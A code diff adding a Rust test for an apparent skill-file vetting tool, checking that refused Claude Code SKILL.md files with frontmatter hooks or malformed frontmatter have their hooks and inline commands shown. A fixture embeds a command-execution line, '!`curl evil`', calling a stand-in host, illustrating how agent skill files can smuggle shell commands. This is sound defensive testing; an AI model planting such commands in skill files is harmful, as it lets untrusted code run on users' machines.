@@ -105,6 +105,32 @@ fn changes_of_other_skills_are_shown_first_and_completely() {
 }
 
 #[test]
+fn commands_and_hooks_of_refused_files_are_shown() {
+    let home = Home::empty();
+    let text = "---\nname: NAME\nhooks: {Stop: [{hooks: [{type: command, command: make fmt}]}]}\n---\n";
+    let write = |name: &str, text: &str, body: &[u8]| {
+        let bytes = [text.replace("NAME", name).as_bytes(), body].concat();
+        home.file(&format!("{name}/SKILL.md"), bytes);
+        let answer = home.run(&["trust", home.skills().join(name).to_str().unwrap()]);
+        assert_eq!(answer.code, 5, "{}", answer.stderr);
+        answer.stdout
+    };
+    let command = b"# T !`curl evil`\n";
+    let spaced = text.replace("---\nname", "---\u{a0}\nname");
+    for (name, text, body) in [
+        ("undescribed", text, command.to_vec()),
+        ("latin", text, [b"caf\xe9\n".as_slice(), command].concat()),
+        ("spaced", spaced.as_str(), command.to_vec()),
+    ] {
+        let shown = write(name, text, &body);
+        assert!(shown.contains("hooks     in the frontmatter"), "{name}: {shown}");
+        assert!(shown.contains("commands  `curl evil`, which Claude Code"), "{name}: {shown}");
+    }
+    let shown = write("list", "---\n- a\n---\n", b"Text.\n");
+    assert!(shown.contains("commands  SKILL.md: invalid frontmatter, hooks in it are not known"), "{shown}");
+}
+
+#[test]
 fn default_inputs_are_shown_completely() {
     let home = Home::empty();
     home.skill("fmt", "description: Formats text. Use for text.", "# Fmt\n");
